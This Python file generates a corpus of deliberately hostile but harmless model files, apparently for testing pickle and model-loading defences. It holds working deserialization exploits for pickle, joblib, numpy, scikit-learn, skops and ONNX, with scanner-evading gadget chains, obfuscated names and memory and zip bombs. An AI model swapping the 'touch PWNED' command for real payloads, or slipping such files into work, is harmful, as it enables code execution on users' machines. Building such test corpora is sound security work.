"""Writes hostile model files that do no harm.

A payload creates an empty file PWNED in the current directory, uses up memory
or time that the caller has limited, or changes a model. Each file is written
into the folder payloads/ of an empty directory.
"""

import codecs
import io
import lzma
import pickle
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

COMMAND = "touch PWNED"
CODE = "open('PWNED', 'w').close()"
PROGRAMS = {
    "defences.py",
    "matrix.py",
    "models.py",
    "payloads.py",
    "signed_pickle.py",
    "strict_pickle.py",
    "table.py",
}


@dataclass
class Payload:
    """One hostile file.

    effect is what happens without a defence: "ran", "changed", "crashed" or
    "exhausted"; beside holds more files that must lie next to it.
    """

    name: str
    family: str
    about: str
    data: bytes
    effect: str = "ran"
    suffix: str = "pkl"
    beside: dict[str, bytes] = field(default_factory=dict)


# --- a small assembler for pickles ------------------------------------------


def text(value: str) -> bytes:
    """Return the instructions that put a text on the stack."""
    data = value.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> bytes:
    """Return the instructions that put bytes on the stack."""
    return pickle.BINBYTES + struct.pack("<I", len(value)) + value


def number(value: int) -> bytes:
    """Return the instructions that put a number on the stack."""
    return pickle.BININT + struct.pack("<i", value)


def listed(*items: bytes) -> bytes:
    """Return the instructions that put a list of these on the stack."""
    return pickle.EMPTY_LIST + pickle.MARK + b"".join(items) + pickle.APPENDS


def named(module: str, name: str) -> bytes:
    """Return the instructions that import module.name."""
    return text(module) + text(name) + pickle.STACK_GLOBAL


def arguments(*items: bytes) -> bytes:
    """Return the instructions that put a tuple of these on the stack."""
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def call(function: bytes, *items: bytes) -> bytes:
    """Return the instructions that call a function with these arguments."""
    return function + arguments(*items) + pickle.REDUCE


def whole(body: bytes) -> bytes:
    """Return a pickle of protocol 4 with these instructions."""
    return pickle.PROTO + b"\x04" + body + pickle.STOP


def build(state: bytes) -> bytes:
    """Return the instructions that set the state of what is on the stack."""
    return state + pickle.BUILD


SYSTEM = named("os", "system")
EXEC = named("builtins", "exec")
TOUCH = whole(call(SYSTEM, text(COMMAND)))
OS = call(named("importlib", "import_module"), text("os"))


# --- the payloads -----------------------------------------------------------


def direct():
    """Yield payloads that name what they call."""
    for name, module in (("os.system", "os"), ("posix.system", "posix")):
        yield (
            name,
            "a shell command",
            call(named(module, "system"), text(COMMAND)),
        )
    yield "exec", "Python code as a text", call(EXEC, text(CODE))
    yield (
        "subprocess.run",
        "another program",
        call(named("subprocess", "run"), listed(text("touch"), text("PWNED"))),
    )
    yield (
        "open",
        "creates a file",
        call(named("builtins", "open"), text("PWNED"), text("w")),
    )
    yield (
        "Path.touch",
        "creates a file, by a name with a dot",
        call(
            named("pathlib", "Path.touch"),
            call(named("pathlib", "Path"), text("PWNED")),
        ),
    )
    yield (
        "sqlite3.connect",
        "creates a file",
        call(named("sqlite3", "connect"), text("PWNED")),
    )
    yield (
        "ctypes",
        "the C library's own system()",
        call(
            call(
                call(named("operator", "attrgetter"), text("system")),
                call(named("ctypes", "CDLL"), pickle.NONE),
            ),
            raw(COMMAND.encode()),
        ),
    )


def opcodes():
    """Yield payloads that use other instructions than REDUCE."""
    mapped = (
        named("builtins", "map")
        + arguments(EXEC, listed(text(CODE)))
        + pickle.NEWOBJ
    )
    yield (
        "NEWOBJ",
        "tuple(map(exec, ...)), no REDUCE",
        named("builtins", "tuple") + arguments(mapped) + pickle.NEWOBJ,
    )
    yield (
        "BUILD",
        "gives an object a __setstate__ of its own",
        named("types", "SimpleNamespace")
        + pickle.EMPTY_TUPLE
        + pickle.NEWOBJ
        + build(
            pickle.EMPTY_DICT + text("__setstate__") + SYSTEM + pickle.SETITEM
        )
        + build(text(COMMAND)),
    )
    yield (
        "computed name",
        "the name is decoded while loading",
        text("os")
        + call(named("codecs", "decode"), text("flfgrz"), text("rot13"))
        + pickle.STACK_GLOBAL
        + arguments(text(COMMAND))
        + pickle.REDUCE,
    )
    yield (
        "extension registry",
        "registers os.system as number 66 first",
        call(
            named("copyreg", "add_extension"),
            text("os"),
            text("system"),
            number(66),
        )
        + pickle.POP
        + pickle.EXT1
        + bytes([66])
        + arguments(text(COMMAND))
        + pickle.REDUCE,
    )


def indirect():
    """Yield payloads that reach what they call through something else."""
    yield (
        "getattr",
        "getattr(__import__('os'), 'system')",
        call(
            call(
                named("builtins", "getattr"),
                call(named("builtins", "__import__"), text("os")),
                text("system"),
            ),
            text(COMMAND),
        ),
    )
    yield (
        "attrgetter",
        "operator.attrgetter('system')(os)",
        call(
            call(call(named("operator", "attrgetter"), text("system")), OS),
            text(COMMAND),
        ),
    )
    yield (
        "methodcaller",
        "operator.methodcaller('system', ...)(os)",
        call(
            call(
                named("operator", "methodcaller"), text("system"), text(COMMAND)
            ),
            OS,
        ),
    )
    yield (
        "partial",
        "functools.partial(os.system, ...)()",
        call(call(named("functools", "partial"), SYSTEM, text(COMMAND))),
    )
    yield (
        "resolve_name",
        "pkgutil.resolve_name('os:system')",
        call(
            call(named("pkgutil", "resolve_name"), text("os:system")),
            text(COMMAND),
        ),
    )
    yield (
        "coded text",
        "exec of a text in rot13",
        call(
            EXEC,
            call(
                named("codecs", "decode"),
                text(codecs.encode(CODE, "rot13")),
                text("rot13"),
            ),
        ),
    )
    yield (
        "nested pickle",
        "pickle.loads of a second pickle",
        call(named("pickle", "loads"), raw(TOUCH)),
    )


def gadgets():
    """Yield payloads that use the standard library's lesser known parts."""
    yield (
        "timeit",
        "timeit.timeit runs its text",
        call(named("timeit", "timeit"), text("0"), text(CODE)),
    )
    yield (
        "cProfile",
        "cProfile.run runs its text",
        call(named("cProfile", "run"), text(CODE)),
    )
    yield (
        "bdb",
        "the debugger runs its text",
        call(named("bdb", "Bdb.run"), call(named("bdb", "Bdb")), text(CODE)),
    )
    yield (
        "code",
        "the interactive interpreter runs its text",
        call(
            named("code", "InteractiveInterpreter.runsource"),
            call(named("code", "InteractiveInterpreter")),
            text(CODE),
        ),
    )
    yield (
        "pydoc",
        "the help viewer starts a shell",
        call(named("pydoc", "pipepager"), text(""), text(COMMAND)),
    )
    yield (
        "spawnv",
        "multiprocessing starts a program",
        call(
            named("multiprocessing.util", "spawnv_passfds"),
            raw(b"/bin/sh"),
            listed(raw(b"sh"), raw(b"-c"), raw(COMMAND.encode())),
            listed(number(1)),
        ),
    )


def scientific():
    """Yield payloads that name numpy, joblib and scikit-learn alone."""
    yield (
        "numpy measure",
        "numpy.testing.measure runs its text",
        call(named("numpy.testing", "measure"), text(CODE)),
    )
    yield (
        "numpy f2py",
        "myeval evaluates its text",
        call(named("numpy.f2py.crackfortran", "myeval"), text(CODE)),
    )
    yield (
        "numpy savetxt",
        "creates a file",
        call(named("numpy", "savetxt"), text("PWNED"), listed(number(1))),
    )
    yield (
        "joblib dump",
        "creates a file",
        call(named("joblib", "dump"), number(1), text("PWNED")),
    )
    yield (
        "joblib loads",
        "joblib's own name for pickle.loads",
        call(
            named("joblib.externals.loky.backend.reduction", "loads"),
            raw(TOUCH),
        ),
    )
    yield (
        "sklearn, dotted",
        "os.system, through a module that imports os",
        call(named("sklearn.datasets._base", "os.system"), text(COMMAND)),
    )
    getter = named("sklearn.feature_selection._base", "attrgetter")
    module = named("sklearn.utils.discovery", "import_module")
    yield (
        "sklearn, no dots",
        "attrgetter and import_module, as scikit-learn imports them",
        call(
            call(call(getter, text("system")), call(module, text("os"))),
            text(COMMAND),
        ),
    )
    getter = named("sklearn.feature_extraction.text", "itemgetter")
    yield (
        "sklearn, builtins",
        "exec, out of a module's __builtins__",
        call(
            call(
                call(getter, text("exec")),
                named("sklearn.base", "__builtins__"),
            ),
            text(CODE),
        ),
    )


def pickles():
    """Yield the Payloads whose pickle is whole and runs at load."""
    families = {
        "direct call": direct,
        "other instruction": opcodes,
        "detour": indirect,
        "standard library": gadgets,
        "scientific stack": scientific,
    }
    for family, make in families.items():
        for name, about, body in make():
            yield Payload(name, family, about, whole(body))


def framed():
    """Yield Payloads in old, broken, compressed or nested files."""
    old = b"cos\nsystem\n(S'touch PWNED'\ntR."
    yield Payload("protocol 0", "framing", "GLOBAL, in plain text", old)
    old = b"(S'touch PWNED'\nios\nsystem\n."
    yield Payload("INST", "framing", "the oldest way to call", old)
    old = b"(cos\nsystem\nS'touch PWNED'\no."
    yield Payload("OBJ", "framing", "the second oldest way to call", old)
    old = b"c__builtin__\neval\n" + arguments(text(CODE)) + b"R."
    yield Payload("Python 2 name", "framing", "__builtin__ is mapped", old)
    yield Payload(
        "broken stream",
        "framing",
        "runs, then the pickle ends in garbage",
        TOUCH[:-1] + b"0\xff\xff\xff",
    )
    yield Payload(
        "import",
        "framing",
        "names a module that lies beside the file",
        whole(named("beside", "x")),
        beside={"beside.py": f"{CODE}\nx = 1\n".encode()},
    )
    yield Payload(
        "joblib zlib", "container", "compressed", zlib.compress(TOUCH),
        suffix="joblib",
    )  # fmt: skip
    yield Payload(
        "joblib lzma",
        "container",
        "compressed",
        lzma.compress(TOUCH, format=lzma.FORMAT_ALONE),
        suffix="joblib",
    )
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(117) + b"\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + TOUCH
    yield Payload("npy", "container", "an object array", npy, suffix="npy")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("a.npy", npy)
    yield Payload(
        "npz", "container", "an object array", archive.getvalue(), suffix="npz"
    )
    yield Payload(
        "numpy.load",
        "container",
        "loads a second file beside it",
        whole(
            call(
                named("numpy", "load"),
                text("second.npy"),
                pickle.NONE,
                pickle.NEWTRUE,
            )
        ),
        beside={"second.npy": TOUCH},
    )


def greedy():
    """Yield Payloads that use up time, memory or the stack, with no name."""
    body, last = pickle.EMPTY_TUPLE + pickle.MEMOIZE, 0
    for last in range(40):
        twice = 2 * (pickle.BINGET + bytes([last]))
        body += pickle.POP + twice + pickle.TUPLE2 + pickle.MEMOIZE
    yield Payload(
        "hash bomb",
        "resources",
        "a dictionary key of 2**40 parts",
        whole(pickle.EMPTY_DICT + body + pickle.NONE + pickle.SETITEM),
        effect="exhausted",
    )
    yield Payload(
        "deep key",
        "resources",
        "a dictionary key nested 400,000 deep",
        whole(
            pickle.EMPTY_DICT
            + pickle.EMPTY_TUPLE
            + pickle.TUPLE1 * 400_000
            + pickle.NONE
            + pickle.SETITEM
        ),
        effect="crashed",
    )
    place = struct.pack("<I", 90_000_000)
    yield Payload(
        "memo bomb",
        "resources",
        "9 bytes ask for more than a gigabyte",
        whole(pickle.NONE + pickle.LONG_BINPUT + place),
        effect="exhausted",
    )
    yield Payload(
        "numpy.ones",
        "resources",
        "an array of more than a gigabyte",
        whole(call(named("numpy", "ones"), number(180_000_000))),
        effect="exhausted",
    )


def semantic():
    """Yield Payloads that are well-formed models and lie."""
    from sklearn.linear_model import LogisticRegression
    from sklearn.tree import DecisionTreeClassifier

    from models import X, y

    model = LogisticRegression(max_iter=500).fit(X, y)
    model.coef_, model.intercept_ = -model.coef_, -model.intercept_
    yield Payload(
        "weights",
        "the model itself",
        "coefficients with the sign changed",
        pickle.dumps(model, protocol=5),
        effect="changed",
    )
    tree = DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y)
    make, how, state = tree.tree_.__reduce__()
    state["nodes"]["left_child"][0] = state["nodes"]["right_child"][0] = 2**40

    class Crafted:
        def __reduce__(self):
            return make, how, state

    vars(tree)["tree_"] = Crafted()
    yield Payload(
        "tree",
        "the model itself",
        "a tree whose branches lead out of its memory",
        pickle.dumps(tree, protocol=5),
        effect="crashed",
    )
    yield Payload(
        "class",
        "the model itself",
        "changes a class for the whole process",
        whole(
            named("sklearn.gaussian_process.kernels", "RBF")
            + build(
                pickle.NONE
                + pickle.EMPTY_DICT
                + text("__call__")
                + pickle.NONE
                + pickle.SETITEM
                + pickle.TUPLE2
            )
        ),
        effect="changed",
    )
    later = call(
        named("sklearn.ensemble._bagging", "partial"),
        named("numpy.testing", "measure"),
        text(CODE),
        number(1),
    )
    yield Payload(
        "at predict",
        "the model itself",
        "loads well; its predict() runs code",
        whole(
            named("sklearn.linear_model._logistic", "LogisticRegression")
            + pickle.EMPTY_TUPLE
            + pickle.NEWOBJ
            + build(pickle.EMPTY_DICT + text("predict") + later + b"s")
        ),
    )


def joblib_files():
    """Yield Payloads that need joblib to be written."""
    import joblib
    import numpy as np
    from joblib.numpy_pickle import NumpyArrayWrapper

    wrapper = NumpyArrayWrapper(np.ndarray, (1,), "C", np.dtype("O"))
    # Without its frame and STOP, the inner pickle follows where joblib reads.
    outer = pickle.dumps(wrapper, protocol=3)[:-1]
    yield Payload(
        "joblib inner",
        "container",
        "a second pickle in an object array",
        outer + TOUCH + pickle.STOP,
        suffix="joblib",
    )
    file = io.BytesIO()
    joblib.dump(np.zeros(130_000_000), file, compress=("zlib", 3))
    yield Payload(
        "zip bomb",
        "resources",
        "a small file, a gigabyte when unpacked",
        file.getvalue(),
        effect="exhausted",
        suffix="joblib",
    )


def skops_files():
    """Yield Payloads in skops' format, which is not a pickle."""
    from functools import partial

    import skops.io
    from numpy.testing import measure
    from sklearn.linear_model import LogisticRegression

    model = LogisticRegression()
    vars(model)["predict"] = partial(measure, CODE, 1)
    yield Payload(
        "skops",
        "other format",
        "its predict() runs code",
        skops.io.dumps(model),
        suffix="skops",
    )


def onnx_files():
    """Yield Payloads in ONNX, which is not a pickle."""
    from onnx import TensorProto, helper

    def value(name, kind=TensorProto.FLOAT, shape=(None, 4)):
        return helper.make_tensor_value_info(name, kind, shape)

    def graph(node, given, made, constants=()):
        return helper.make_graph([node], "endless", given, made, constants)

    go = value("go", TensorProto.BOOL, ())
    given = [value("i", TensorProto.INT64, ()), go, value("A")]
    keep = helper.make_node("Identity", ["A"], ["B"])
    body = graph(keep, given, [go, value("B")])
    loop = helper.make_node("Loop", ["", "yes", "X"], ["Y"], body=body)
    yes = helper.make_tensor("yes", TensorProto.BOOL, [], [True])
    main = graph(loop, [value("X")], [value("Y")], [yes])
    opsets = [helper.make_opsetid("", 17)]
    model = helper.make_model(main, opset_imports=opsets, ir_version=8)
    yield Payload(
        "onnx",
        "other format",
        "its calculation never ends",
        model.SerializeToString(),
        effect="exhausted",
        suffix="onnx",
    )


def corpus() -> list[Payload]:
    """Return all payloads, built anew."""
    makers = pickles, framed, greedy, semantic
    makers += joblib_files, skops_files, onnx_files
    made = [payload for make in makers for payload in make()]
    families = list(dict.fromkeys(payload.family for payload in made))
    return sorted(made, key=lambda payload: families.index(payload.family))


def refuse_other_folders(*programs: str):
    """Stop the program unless the current directory holds these alone."""
    found = {path.name for path in Path().iterdir()} - {"__pycache__"}
    if found - PROGRAMS - set(programs):
        sys.exit(
            "This writes hostile files. Make an empty folder, put only the "
            "programs of this page into it, and run it there."
        )


if __name__ == "__main__":
    refuse_other_folders()
    for payload in corpus():
        print(f"{payload.family:18}{payload.name:19}{payload.about}")
